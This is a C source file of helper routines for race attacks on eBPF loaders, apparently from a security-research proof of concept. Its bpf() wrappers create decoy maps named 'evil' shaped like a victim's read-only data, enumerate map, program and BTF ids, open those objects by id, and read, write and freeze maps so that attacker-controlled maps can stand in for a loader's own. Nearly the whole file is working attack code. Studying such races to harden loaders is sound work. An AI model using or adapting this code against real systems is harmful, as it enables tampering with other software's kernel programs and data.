// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Race attacks - the map operations that attackers need, each one system call
 */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "race.h"

#define SIZE_TO(member) (offsetof(union bpf_attr, member) + sizeof(((union bpf_attr *)0)->member))

/**
 * map_new() - a map with the shape of the victims' .rodata
 * @value: its first word
 *
 * Return: a descriptor out of the loader's way, or a negative errno.
 */
int map_new(uint32_t value)
{
	union bpf_attr attr = {0};
	int fd;

	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 8;
	attr.max_entries = 1;
	attr.map_flags = BPF_F_MMAPABLE | BPF_F_RDONLY_PROG;
	memcpy(attr.map_name, "evil", sizeof("evil"));
	fd = race_high(sys_bpf(BPF_MAP_CREATE, &attr, SIZE_TO(map_name)));
	if (fd >= 0)
		map_write(fd, value);
	return fd;
}

/**
 * map_decoy() - a map that stands where a loader's own is expected
 * @type: BPF_MAP_TYPE_HASH or BPF_MAP_TYPE_PROG_ARRAY
 * @value_size: as the victim's
 *
 * Return: a descriptor out of the loader's way, or a negative errno.
 */
int map_decoy(uint32_t type, uint32_t value_size)
{
	union bpf_attr attr = {0};

	attr.map_type = type;
	attr.key_size = 4;
	attr.value_size = value_size;
	attr.max_entries = 1;
	return race_high(sys_bpf(BPF_MAP_CREATE, &attr, SIZE_TO(map_name)));
}

/**
 * map_read() - read the first word of a map of that shape
 * @fd: the map
 * @value: the word
 *
 * Return: 0, or a negative errno.
 */
int map_read(int fd, uint32_t *value)
{
	uint32_t key = 0, words[2] = {0};
	union bpf_attr attr = {0};
	int err;

	attr.map_fd = fd;
	attr.key = (uintptr_t)&key;
	attr.value = (uintptr_t)words;
	err = sys_bpf(BPF_MAP_LOOKUP_ELEM, &attr, SIZE_TO(flags));
	*value = words[0];
	return err;
}

/**
 * map_write() - write the first word of a map of that shape
 * @fd: the map
 * @value: the word
 *
 * Return: 0, or a negative errno; -EPERM once it is frozen.
 */
int map_write(int fd, uint32_t value)
{
	uint32_t key = 0, words[2] = {value, RODATA_MARK};
	union bpf_attr attr = {0};

	attr.map_fd = fd;
	attr.key = (uintptr_t)&key;
	attr.value = (uintptr_t)words;
	return sys_bpf(BPF_MAP_UPDATE_ELEM, &attr, SIZE_TO(flags));
}

/**
 * map_freeze() - freeze a map
 * @fd: the map
 *
 * Return: 0, or a negative errno.
 */
int map_freeze(int fd)
{
	union bpf_attr attr = {0};

	attr.map_fd = fd;
	return sys_bpf(BPF_MAP_FREEZE, &attr, SIZE_TO(map_fd));
}

static uint32_t last_id(int cmd)
{
	union bpf_attr attr = {0};

	while (!sys_bpf(cmd, &attr, SIZE_TO(open_flags)))
		attr.start_id = attr.next_id;
	return attr.start_id;
}

/**
 * map_last_id() - the highest id of a map
 *
 * Return: the id, 0 if there is no map.
 */
uint32_t map_last_id(void)
{
	return last_id(BPF_MAP_GET_NEXT_ID);
}

/**
 * prog_last_id() - the highest id of a program
 *
 * Return: the id, 0 if there is no program.
 */
uint32_t prog_last_id(void)
{
	return last_id(BPF_PROG_GET_NEXT_ID);
}

/**
 * btf_last_id() - the highest id of a BTF
 *
 * Return: the id.
 */
uint32_t btf_last_id(void)
{
	return last_id(BPF_BTF_GET_NEXT_ID);
}

/**
 * map_by_id() - open a map by its id
 * @id: the id
 *
 * Return: a descriptor, or a negative errno.
 */
int map_by_id(uint32_t id)
{
	union bpf_attr attr = {0};

	attr.map_id = id;
	return sys_bpf(BPF_MAP_GET_FD_BY_ID, &attr, SIZE_TO(open_flags));
}

/**
 * prog_by_id() - open a program by its id
 * @id: the id
 *
 * Return: a descriptor, or a negative errno.
 */
int prog_by_id(uint32_t id)
{
	union bpf_attr attr = {0};

	attr.prog_id = id;
	return sys_bpf(BPF_PROG_GET_FD_BY_ID, &attr, SIZE_TO(open_flags));
}

/**
 * btf_by_id() - open a BTF by its id
 * @id: the id
 *
 * Return: a descriptor, or a negative errno.
 */
int btf_by_id(uint32_t id)
{
	union bpf_attr attr = {0};

	attr.btf_id = id;
	return sys_bpf(BPF_BTF_GET_FD_BY_ID, &attr, SIZE_TO(open_flags));
}

/**
 * number_open() - is there something at this number of the own table?
 * @fd: the number
 *
 * Return: true if there is.
 */
bool number_open(int fd)
{
	return fcntl(fd, F_GETFD) >= 0;
}
